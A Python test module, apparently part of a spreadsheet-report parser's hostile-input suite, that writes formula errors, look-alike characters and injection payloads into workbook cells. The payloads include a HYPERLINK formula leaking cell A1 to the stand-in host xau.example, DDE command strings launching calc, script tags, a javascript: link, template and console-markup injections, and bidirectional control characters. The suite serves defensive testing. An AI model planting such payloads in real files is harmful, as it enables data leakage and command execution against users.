"""Broken and malicious cell contents: formula errors, invalid numbers and dates, injected formulas and markup."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable

from tests.hostile.package import WORKBOOK, WorkbookPackage, set_text, set_xml

Change = Callable[[WorkbookPackage], None]

HYPERLINK = '=HYPERLINK("http://xau.example/?x="&A1,"Bấm vào đây")'
COMMAND = "=cmd|'/C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{ 7 * 7 }}{% for x in y %}"
# A direction override, an isolate, a control sequence of terminals, an escape as Excel writes it, line separators.
UNPRINTABLE_TEXT = "Hết\u202e thảy\u2066 \x9b31mđỏ_x001B_[31m\u2028hai\x85ba\x7f"
UNPRINTABLE_NAME = "\u202egnab\x9b31m"
MARKUP = "[/bold][link=http://xau.example]x"
INJECTIONS = (HYPERLINK, COMMAND, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1+1", "\r=1+1", SCRIPT, TEMPLATE, MARKUP)


def pupils(markup: str, kind: str = "") -> Change:
    """Replaces the number of pupils by raw XML."""
    def change(package: WorkbookPackage) -> None:
        set_xml(package.sheets["6T"].cell("N01", "total"), markup, kind)
    return change


def pupils_typed(text: str) -> Change:
    """Replaces the number of pupils by a text."""

    def change(package: WorkbookPackage) -> None:
        set_text(package.sheets["6T"].cell("N01", "total"), text)
    return change


def date(markup: str, kind: str = "") -> Change:
    """Replaces the day of the unit's plan, a cell with a date format, by raw XML."""
    def change(package: WorkbookPackage) -> None:
        set_xml(package.sheets["6T"].cell("A07.date", "total"), markup, kind)
    return change


def text(content: str) -> Change:
    """Writes into a free-text cell of the report."""
    def change(package: WorkbookPackage) -> None:
        set_text(package.sheets["6T"].cell("Q03", "total"), content)
    return change


def text_xml(markup: str) -> Change:
    """The same, as raw XML that nobody can type."""
    def change(package: WorkbookPackage) -> None:
        set_xml(package.sheets["6T"].cell("Q03", "total"), f"<is><t>{markup}</t></is>", "inlineStr")
    return change


def same_pupils(write: Callable[[str], str]) -> Change:
    """Replaces the number of pupils by the same number as text, in another notation."""
    def change(package: WorkbookPackage) -> None:
        cell = package.sheets["6T"].cell("N01", "total")
        set_text(cell, write(cell[0].text))
    return change


def full_width(figure: str) -> str:
    return "".join(chr(ord(digit) + 0xFEE0) for digit in figure)


def computed(package: WorkbookPackage) -> None:
    """A formula with its calculated value, as spreadsheet programs write it."""
    cell = package.sheets["6T"].cell("N01", "total")
    set_xml(cell, f"<f>SUM(E1:E3)</f><v>{cell[0].text}</v>")


def text_from_a_formula(package: WorkbookPackage) -> None:
    set_xml(package.sheets["6T"].cell("Q03", "total"),
        '<f>HYPERLINK("http://xau.example","Không có khó khăn, vướng mắc.")</f>'
        "<v>Không có khó khăn, vướng mắc.</v>", "str")


def error_in_a_record(package: WorkbookPackage) -> None:
    set_xml(package.sheets["TV"].record(0, "status"), "<f>VLOOKUP(1,A:A,9)</f><v>#N/A</v>", "e")


def error_everywhere(package: WorkbookPackage) -> None:
    sheet = package.sheets["6T"]
    for key in ("B01", "B02", "B03"):
        for column in ("total", "female"):
            set_xml(sheet.cell(key, column), "<f>#REF!</f><v>#REF!</v>", "e")


def look_alike(package: WorkbookPackage) -> None:
    """The letter eth instead of Đ, in a cell where a word of the form is expected."""
    set_text(package.sheets["6T"].cell("@submit", "total"), "Ðã nộp")


def decomposed_words(package: WorkbookPackage) -> None:
    sheet = package.sheets["6T"]
    for key in ("@submit", "A01"):
        cell = sheet.cell(key, "total")
        set_text(cell, unicodedata.normalize("NFD", "".join(cell.itertext())))


def with_injections(package: WorkbookPackage) -> None:
    """Injections for every later program (spreadsheet, browser, template, console), in every text that reaches one."""
    sheet = package.sheets["6T"]
    for key, text in zip(("Q01", "Q02", "Q03", "Q04", "Q05"), (HYPERLINK, COMMAND, SCRIPT, TEMPLATE, MARKUP),
                         strict=True):
        set_text(sheet.cell(key, "total"), text)
    for number, text in enumerate(INJECTIONS):
        set_text(sheet.cell(f"B0{number % 9 + 1}", "explanation"), text)
    set_text(sheet.cell("@doc_link", "total"), "javascript:alert(1)")
    set_text(sheet.cell("@doc_number", "total"), COMMAND)
    for tab, column in (("TT", "note"), ("VM", "content"), ("KT", "content"), ("TV", "name")):
        set_text(package.sheets[tab].record(0, column), HYPERLINK)
    for cell in (sheet.cell("Q05", "total"), package.sheets["VM"].record(0, "proposal")):
        set_text(cell, f"{MARKUP} {UNPRINTABLE_TEXT}")
    package.change(WORKBOOK, 'name="BC 6 tháng"'.encode(), f'name="BC 6 tháng {UNPRINTABLE_NAME}"'.encode())
